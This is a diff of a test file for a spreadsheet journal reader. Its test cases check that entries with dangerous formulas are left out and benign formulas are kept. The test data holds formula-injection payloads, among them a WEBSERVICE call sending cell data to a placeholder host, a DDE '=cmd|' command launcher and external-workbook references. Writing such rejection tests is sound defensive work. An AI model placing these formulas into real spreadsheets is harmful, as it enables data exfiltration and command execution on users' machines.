@@ -289,11 +289,27 @@ describe("B · the journal as text", () => {
     expect(read(JSON.stringify(data)).map(({ title }) => title.vi)).toEqual(["Sửa C4"]);
   });
 
-  it.each(['=WEBSERVICE("http://x/"&A1)', "=1+HYPERLINK(A1)", "=cmd|'/c calc'!A0", "=RTD(A1)"])(
-    "B16 an entry that would write %s is left out",
+  it.each([
+    '=WEBSERVICE("http://x/"&A1)',
+    "=1+HYPERLINK(A1)",
+    "=cmd|'/c calc'!A0",
+    "=RTD(A1)",
+    "='\\\\may\\s\\[x.xlsx]S'!A1",
+    "='https://may/[x.xlsx]S'!A1",
+    "=[1]S!A1",
+    '=DDE("a","b","c")',
+    "=CUBEVALUE(A1)",
+    `='a"b'!A1&WEBSERVICE('c"'!A1)`,
+  ])("B16 an entry that would write %s is left out", (formula) => {
+    const patch = patchOf("lạ", set(2, 2, cell(0, { formula }), cell(1)));
+    expect(read(serialiseJournal([entry(patch), entry(second)]))).toHaveLength(1);
+  });
+
+  it.each(["='Quý 1:Quý 4'!B5+SUM('Tổng hợp (2)'!A1:A9)", '=IF(A1>0,"[đạt] | gọi http://","")'])(
+    "B16 an entry that would write %s is kept",
     (formula) => {
-      const patch = patchOf("lạ", set(2, 2, cell(0, { formula }), cell(1)));
-      expect(read(serialiseJournal([entry(patch), entry(second)]))).toHaveLength(1);
+      const patch = patchOf("thường", set(2, 2, cell(0, { formula }), cell(1)));
+      expect(read(serialiseJournal([entry(patch), entry(second)]))).toHaveLength(2);
     },
   );
 
